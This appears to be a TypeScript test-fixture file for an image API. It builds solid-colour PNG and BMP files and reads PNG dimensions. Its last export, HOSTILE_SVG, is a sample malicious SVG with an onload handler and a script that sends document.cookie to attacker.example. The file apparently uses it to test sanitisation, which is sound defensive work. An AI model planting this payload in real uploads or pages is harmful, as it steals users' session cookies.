import { crc32, deflateSync } from 'node:zlib';

/**
 * Test images written byte by byte (the API does not depend on an image library itself):
 * solid-colour PNG and BMP files, and a PNG reader for the size of what the API serves.
 */

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

type Rgb = [number, number, number];

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A solid RGB PNG. */
export function pngOf(width: number, height: number, [r, g, b]: Rgb = [220, 30, 40]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  const row = Buffer.alloc(1 + width * 3);
  for (let x = 0; x < width; x += 1) row.set([r, g, b], 1 + x * 3);
  const pixels = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An uncompressed 24-bit BMP. */
export function bmpOf(width: number, height: number, [r, g, b]: Rgb = [20, 60, 200]): Buffer {
  const stride = Math.ceil((width * 3) / 4) * 4;
  const bmp = Buffer.alloc(54 + stride * height);
  bmp.write('BM', 0, 'latin1');
  bmp.writeUInt32LE(bmp.length, 2);
  bmp.writeUInt32LE(54, 10);
  bmp.writeUInt32LE(40, 14);
  bmp.writeInt32LE(width, 18);
  bmp.writeInt32LE(height, 22);
  bmp.writeUInt16LE(1, 26);
  bmp.writeUInt16LE(24, 28);
  for (let row = 0; row < height; row += 1) {
    for (let x = 0; x < width; x += 1) bmp.set([b, g, r], 54 + row * stride + x * 3);
  }
  return bmp;
}

/** The width and height a PNG declares. */
export function pngSize(png: Buffer): { width: number; height: number } {
  if (!png.subarray(0, 8).equals(PNG_SIGNATURE)) throw new Error('not a PNG');
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
}

/** An SVG with a script, an event handler and external references. */
export const HOSTILE_SVG = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="32" onload="alert('svg-onload')">
  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
  <rect width="64" height="32" fill="#1e40af"/>
  <image href="https://attacker.example/pixel.png" width="8" height="8"/>
</svg>`);
